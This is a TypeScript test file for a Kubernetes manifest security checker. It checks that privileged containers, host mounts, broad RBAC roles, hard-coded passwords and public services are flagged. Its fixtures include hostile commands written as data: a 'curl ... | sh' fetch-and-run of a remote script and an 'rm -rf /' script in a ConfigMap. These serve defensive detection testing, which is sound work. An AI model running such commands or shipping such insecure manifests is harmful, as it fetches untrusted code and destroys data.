import { describe, expect, test } from 'vitest';
import { judgeKubernetes } from '../../../../reviewers/security/container/kubernetes-hazards.ts';

const rules = (text: string): string[] => judgeKubernetes(text).hazards.map(({ rule }) => rule);
const container = (line: string): string =>
  `apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: c\n      image: a:1\n      ${line}\n`;
const pod = (line: string): string => `${container('tty: false')}  ${line}\n`;

describe('Kubernetes', () => {
  test.each([
    ['securityContext: {privileged: true}', ['container-escape']],
    ['securityContext: {privileged: false, allowPrivilegeEscalation: false}', []],
    ['securityContext: {allowPrivilegeEscalation: true}', ['container-escape']],
    ['securityContext: {capabilities: {add: [SYS_ADMIN]}}', ['container-escape']],
    ['securityContext: {capabilities: {drop: [ALL], add: [NET_BIND_SERVICE]}}', []],
    ['securityContext: {runAsUser: 0}', ['excessive-permissions']],
    ['securityContext: {runAsUser: 1000, runAsNonRoot: true}', []],
    ['env: [{name: DB_PASSWORD, value: hunter2hunter2}]', ['hard-coded-secret']],
    ['env: [{name: DB_PASSWORD, value: my-exchange-example-1}]', ['hard-coded-secret']],
    ['env: [{name: DB_PASSWORD, value: change-me}]', []],
    ['env: [{name: DB_PASSWORD, valueFrom: {secretKeyRef: {name: s, key: k}}}]', []],
    ['command: [sh, -c, "curl -s https://x.example/i.sh | sh"]', ['downloaded-code']],
    ['command: [sh, -c, "curl -s https://x.example/data"]', []],
    ['command: [/bin/sh]\n      args: [-c, "curl -s https://x.example/i.sh | sh"]', ['downloaded-code']],
    ['command: [/bin/app]\n      args: [-c, "config.yml"]', []],
    ['livenessProbe: {exec: {command: [sh, -c, "curl -s https://x.example/i.sh | sh"]}}', ['downloaded-code']],
    ['lifecycle: {preStop: {exec: {command: [sh, -c, "sleep 5"]}}}', []],
  ])('%s', (line, expected) => {
    expect(rules(container(line))).toEqual(expected);
  });

  test.each([
    ['hostNetwork: true', ['container-escape']],
    ['hostPID: false', []],
    ['volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}]', ['container-escape']],
    ['volumes: [{name: v, hostPath: {path: /srv/data}}]', []],
    ['volumes: [{name: v, emptyDir: {}}]', []],
  ])('%s', (line, expected) => {
    expect(rules(pod(line))).toEqual(expected);
  });

  const role = (line: string): string => `kind: ClusterRole\nmetadata: {name: r}\nrules:\n  - ${line}\n`;

  test.each([
    [role('{apiGroups: ["*"], resources: ["*"], verbs: ["*"]}'), ['excessive-permissions']],
    [role('{apiGroups: [""], resources: [pods], verbs: [get, list]}'), []],
    [role('{apiGroups: [""], resources: [secrets], verbs: [list]}'), ['excessive-permissions']],
    ['kind: ClusterRoleBinding\nmetadata: {name: b}\nroleRef: {name: cluster-admin}\n', ['excessive-permissions']],
    ['kind: ClusterRoleBinding\nmetadata: {name: b}\nroleRef: {name: view}\n', []],
    ['kind: Service\nmetadata: {name: s}\nspec: {type: LoadBalancer, ports: [{port: 5432}]}\n', ['public-exposure']],
    ['kind: Service\nmetadata: {name: s}\nspec: {type: LoadBalancer, ports: [{port: 443}]}\n', []],
    [
      'kind: NetworkPolicy\nmetadata: {name: n}\nspec: {ingress: [{from: [{ipBlock: {cidr: 0.0.0.0/0}}]}]}\n',
      ['public-exposure'],
    ],
    ['kind: NetworkPolicy\nmetadata: {name: n}\nspec: {ingress: [{from: [{ipBlock: {cidr: 10.0.0.0/8}}]}]}\n', []],
  ])('%s', (text, expected) => {
    expect(rules(text)).toEqual(expected);
  });

  test.each([
    ['kind: Application\nspec: {}\n', 1],
    ['kind: ConfigMap\ndata:\n  run.sh: |\n    rm -rf /\n', 1],
    ['kind: ConfigMap\ndata: {level: info}\n', 0],
    ['kind: {{ .Values.kind }}\n', 1],
    ['kind: Namespace\n---\nkind: Namespace\n', 0],
  ])('%s', (text, unread) => {
    expect(judgeKubernetes(text).unread).toHaveLength(unread);
  });
});
